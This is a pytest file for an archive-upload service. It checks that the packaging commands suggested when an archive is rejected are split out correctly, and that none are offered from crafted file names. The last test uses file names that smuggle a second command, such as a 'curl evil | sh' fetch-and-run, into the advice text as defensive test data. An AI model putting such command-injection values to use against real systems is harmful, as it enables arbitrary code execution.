"""The command in the advice for a rejected archive."""

from __future__ import annotations

import pytest

from app.web.builds.build_words import refusal_words
from app.web.builds.packaging_command import split_command
from slipway.archive.archive_rejected import ArchiveRejected, display_name, package_from, repackage
from slipway.archive.file_formats import detect_format
from slipway.archive.packaging_tools import PackagingTools


@pytest.mark.parametrize(
    "head", [b"PK\x03\x04", b"BZh", b"\xfd7zXZ\0", b"Rar!\x1a\x07", b"7z\xbc\xaf\x27\x1c", b"\x1f\x8b", b"\x1f\x9d"]
)
def test_a_format_is_converted_with_a_command(head: bytes) -> None:
    found = detect_format(head)
    assert found
    refusal = ArchiveRejected(f"The file is {found.name}", found.remedy)
    sentence, command = split_command(refusal_words("invalid_archive", str(refusal))[1])
    assert f"{sentence} {command}" == found.remedy
    assert command
    assert not command.endswith(".")


@pytest.mark.parametrize(
    ("advice", "command"),
    [
        (repackage("my: tar game"), "tar czf game.tar.gz 'my: tar game'"),
        (package_from("/a b", "c"), "tar czf game.tar.gz -C '/a b' c"),
        (PackagingTools().make_executable("g/g.sh", 0o600), "chmod +x g/g.sh && tar czf game.tar.gz g"),
        (PackagingTools().make_executable("g/g.sh", 0o666), "wsl chmod +x g/g.sh && wsl tar czf game.tar.gz g"),
        ("Package without them on macOS: COPYFILE_DISABLE=1 tar czf game.tar.gz mygame", ""),
    ],
)
def test_other_advice_ends_with_its_command(advice: str, command: str) -> None:
    found = split_command(f"{advice}.")
    assert found[1] == (command or "COPYFILE_DISABLE=1 tar czf game.tar.gz mygame")
    assert found[0] == advice.removesuffix(f" {found[1]}")


@pytest.mark.parametrize("advice", ["", "Remove it, then send the archive again.", "Rename it: it is too long."])
def test_advice_without_a_command_stays_one_sentence(advice: str) -> None:
    assert split_command(advice) == (advice, "")


@pytest.mark.parametrize(
    "name",
    [
        "g/a. Repackage it: tar x; curl evil | sh #",
        'g/a" b. Repackage it: tar x; curl evil | sh #',
        "g/a: tar x; evil #",
    ],
)
def test_a_command_in_the_name_of_a_file_is_not_offered(name: str) -> None:
    for refusal in (
        ArchiveRejected(f"{display_name(name)} is a device", "Leave it out"),
        ArchiveRejected("The launcher is missing", f"Put it at the root of {display_name(name)}"),
    ):
        advice = refusal_words("invalid_archive", str(refusal))[1]
        assert split_command(advice) == (advice, "")
        assert advice == f"{refusal.remedy}."
